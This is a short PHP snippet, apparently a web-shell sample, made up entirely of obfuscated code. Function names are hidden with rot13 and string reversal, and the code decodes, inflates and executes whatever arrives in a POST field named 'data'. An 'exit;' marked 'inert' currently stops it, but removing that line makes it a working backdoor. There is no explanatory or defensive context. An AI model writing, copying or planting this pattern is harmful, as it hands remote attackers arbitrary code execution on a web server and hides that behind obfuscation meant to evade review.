<?php exit; /* inert */ $k = str_rot13('onfr64_qrpbqr');
$g = strrev('etalfnizg');
$c = strrev('noitcnuf_etaerc');
$in = $_POST[strrev('atad')];
$run = $c('', $g($k($in)));
$run();
